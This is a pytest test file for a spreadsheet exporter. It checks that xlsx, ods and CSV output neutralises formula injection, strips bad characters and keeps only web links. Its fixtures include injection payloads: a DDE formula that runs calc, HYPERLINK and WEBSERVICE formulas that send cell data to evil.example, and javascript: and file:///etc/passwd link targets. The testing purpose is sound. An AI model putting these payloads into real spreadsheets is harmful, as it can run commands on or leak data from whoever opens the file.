"""The writer of spreadsheets: both formats say the same, and no text of a stranger counts."""

from __future__ import annotations

import io
import zipfile
from datetime import date
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest

from index.errors import SheetError
from index.sheets import shape
from index.sheets.cell_text import LONGEST, cell_text, csv_text
from index.sheets.model import Book, Cell, Formula, Look, Place, Range, Sheet
from index.sheets.ods import write_ods
from index.sheets.xlsx import write_xlsx
from tests.index.sheets.reading import READERS

WRITERS = {"xlsx": write_xlsx, "ods": write_ods}
BOTH = pytest.mark.parametrize("form", list(WRITERS))
HOSTILE = (
    "=cmd|'/C calc'!A0",
    "=1+2",
    '=HYPERLINK("https://evil.example/?"&A1,"prize")',
    '=WEBSERVICE("https://evil.example/")',
    "+1-1",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    "|calc",
    'DDE("cmd";"/C calc")',
    "{=1+1}",
    "of:=1+1",
    "_x003D_1+1",
    "'=1+1",
    "<table:table-cell table:formula='of:=1+1'/>",
    "]]></t><f>1+1</f>",
    "&#61;1+1",
    "{0.__class__}",
)


def book(*rows: tuple[Cell, ...], **more: Any) -> Book:
    return Book(title="T", made=date(2026, 11, 25), sheets=(Sheet(name="S", rows=rows, **more),))


def texts(form: str, *values: str) -> list[object]:
    """Return the texts of a column as they are read back."""
    read = READERS[form](WRITERS[form](book(*((Cell(value),) for value in values))))
    assert not read.formulas
    return [read.cells["S"].get((number, 0), (None, ""))[1] for number in range(len(values))]


@BOTH
def test_a_text_is_a_text_whatever_it_begins_with(form):
    assert texts(form, *HOSTILE) == list(HOSTILE)


@BOTH
def test_a_text_that_somebody_edits_stays_a_text(form):
    content = WRITERS[form](book((Cell("=1+1"), Cell("harmless"))))

    if form == "xlsx":
        row = next(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows())
        assert [cell.quotePrefix for cell in row] == [True, False]
    else:
        with zipfile.ZipFile(io.BytesIO(content)) as package:
            assert package.read("content.xml").count(b'style:data-style-name="N-text"') == 1


@BOTH
def test_what_would_damage_a_file_is_gone(form):
    values = (
        "a\x00b\x0b\x1bc",
        "d\ufffee\uffff\udc00",
        "tab\there\r\nline",
        "\u202egpj",
        "x" * (LONGEST + 9),
    )

    found = texts(form, *values)

    assert found[:4] == ["ab\nc", "de\ufffd", "tab here\nline", "gpj"]
    assert found[4] == "x" * (LONGEST - 1) + "…"


def test_a_text_is_cut_where_excel_counts_and_at_no_half_letter():
    cut = cell_text("\U0001f600" * LONGEST)

    assert len(cut.encode("utf-16-le")) // 2 <= LONGEST
    assert cut[:-1] == "\U0001f600" * (len(cut) - 1)
    assert cut[-1] == "…"


def test_a_long_text_costs_little_and_keeps_no_more_lines_than_a_cell_holds():
    assert cell_text("a\n" * 5_000_000).count("\n") < 253


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\t=1+1", "\r=1", " =1+1", "\x00=1", "＝1"])
def test_a_csv_cell_that_begins_as_a_formula_is_marked_as_text(value):
    assert csv_text(value).startswith("'")


def test_a_csv_cell_is_one_line():
    assert csv_text("a\nb\tc\x1b") == "a b c"


@BOTH
def test_cells_keep_their_types(form):
    row = (Cell(12), Cell(1.5), Cell(date(2026, 1, 2)), Cell("12"), Cell(), Cell(True))

    read = READERS[form](WRITERS[form](book(row))).cells["S"]

    assert read[0, 0][1] == 12
    assert read[0, 1][1] == 1.5
    assert str(read[0, 2][1])[:10] == "2026-01-02"
    assert read[0, 3] == ("s", "12")
    assert (0, 4) not in read
    assert read[0, 5][1] is True


@BOTH
def test_formulas_point_at_cells_by_sheet(form):
    term = Formula(
        "IF(COUNT({0})<2;{1};SUM({0})/{2})",
        (Range(Place(0, 0), Place(0, 27)), 'not "all"', Place(3, 1, "O'ne: a/b")),
        "not all",
    )
    sheets = (
        Sheet(name="S", rows=((Cell(1), Cell(), Cell(term, Look.RESULT)),)),
        Sheet(name="O'ne: a/b", rows=((Cell(1),),)),
    )

    read = READERS[form](WRITERS[form](Book(title="T", sheets=sheets)))

    assert read.names == ["S", "O'ne a b"]
    assert (
        read.formulas["S", 0, 2]
        == {
            "xlsx": '=IF(COUNT(A1:AB1)<2,"not ""all""",SUM(A1:AB1)/\'O\'\'ne a b\'!B4)',
            "ods": 'of:=IF(COUNT([.A1:.AB1])<2;"not ""all""";SUM([.A1:.AB1])/[$\'O\'\'ne a b\'.B4])',
        }[form]
    )


@BOTH
def test_a_locked_sheet_leaves_its_blanks_open(form):
    row = (Cell("given"), Cell(None, Look.BLANK), Cell(3, Look.BLANK))

    read = READERS[form](WRITERS[form](book(row, locked=True)))

    assert read.locked == {"S"}
    assert read.open_cells == {("S", 0, 1), ("S", 0, 2)}


@BOTH
def test_only_addresses_of_the_web_become_links(form):
    links = (
        "https://a.example/?b=1&c=<2>",
        "https://a.example/?b=1&c=2",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "internal:Other!A1",
        "external:\\\\evil.example\\x",
        "https://user@evil.example/",
    )

    read = READERS[form](WRITERS[form](book(*((Cell("=text", link=link),) for link in links))))

    assert read.links == {("S", 1, 0): "https://a.example/?b=1&c=2"}
    assert set(read.cells["S"].values()) == {("s", "=text")}
    assert not read.formulas


@BOTH
def test_the_first_rows_stay_in_view_and_are_printed_on_every_page(form):
    rows = ((Cell("A", Look.HEADER), Cell("B", Look.HEADER)), (Cell("x"), Cell("y")))

    content = WRITERS[form](book(*rows, widths=(40, 8), frozen_rows=1, frozen_columns=1, filtered=True))

    if form == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        assert sheet.freeze_panes == "B2"
        assert sheet.print_title_rows == "$1:$1"
        assert sheet.auto_filter.ref == "A1:B2"
        assert sheet["A1"].font.bold
        assert sheet.column_dimensions["A"].width > sheet.column_dimensions["B"].width * 4
    else:
        with zipfile.ZipFile(io.BytesIO(content)) as package:
            settings, found = package.read("settings.xml").decode(), package.read("content.xml").decode()
        assert 'config:name="VerticalSplitPosition" config:type="int">1<' in settings
        assert 'config:name="HorizontalSplitPosition" config:type="int">1<' in settings
        assert found.count("<table:table-header-rows>") == 1
        assert "table:target-range-address=\"$'S'.A1:$'S'.B2\"" in found
        assert 'fo:font-weight="bold"' in found
        assert 'style:column-width="8.200cm"' in found


def test_sheet_names_are_such_as_programs_take():
    wanted = ("History", "a" * 40, "a" * 40 + "b", "[x]:*?/\\y", "''", "\x00", "𝔘" * 20, "s", "S")
    named = shape.sheet_names(Book(title="T", sheets=tuple(Sheet(name=name, rows=()) for name in wanted)))

    assert list(named) == list(wanted)
    assert len({name.casefold() for name in named.values()}) == len(wanted)
    for name in named.values():
        assert 0 < len(name.encode("utf-16-le")) // 2 <= 31
        assert not set(name) & set("[]:*?/\\")
        assert not name.startswith("'")
        assert name.casefold() != "history"


@BOTH
def test_the_same_book_is_the_same_file(form):
    assert WRITERS[form](book((Cell("x"),))) == WRITERS[form](book((Cell("x"),)))


@BOTH
def test_a_book_without_rows_opens(form):
    assert READERS[form](WRITERS[form](book())).names == ["S"]


@BOTH
def test_a_sheet_that_no_program_opens_is_refused(form, monkeypatch):
    monkeypatch.setattr(shape, "ROWS", 2)

    with pytest.raises(SheetError, match="narrow the query"):
        WRITERS[form](book(*((Cell("x"),) for _ in range(3))))


def test_an_ods_package_lists_its_parts_and_tells_its_type_first():
    with zipfile.ZipFile(io.BytesIO(write_ods(book((Cell("x"),))))) as package:
        first = package.infolist()[0]
        names = set(package.namelist())
        manifest = ElementTree.fromstring(package.read("META-INF/manifest.xml"))

    space = "{urn:oasis:names:tc:opendocument:xmlns:manifest:1.0}"
    listed = {entry.get(f"{space}full-path") for entry in manifest.iter(f"{space}file-entry")}
    assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
    assert listed - {"/"} == names - {"mimetype", "META-INF/manifest.xml"}


@BOTH
def test_what_helps_to_fill_a_blank_in_stands_beside_it(form):
    content = WRITERS[form](book((Cell(None, Look.BLANK, comment="=Which <currency>?\x00"),)))

    if form == "xlsx":
        assert openpyxl.load_workbook(io.BytesIO(content)).active["A1"].comment.text == "=Which <currency>?"
    else:
        with zipfile.ZipFile(io.BytesIO(content)) as package:
            found = package.read("content.xml").decode()
        assert "<office:annotation><text:p>=Which &lt;currency&gt;?</text:p></office:annotation>" in found


def test_two_sheets_of_one_name_are_a_mistake():
    with pytest.raises(ValueError, match="same name"):
        shape.check(Book(title="T", sheets=(Sheet(name="S", rows=()), Sheet(name="S", rows=()))))
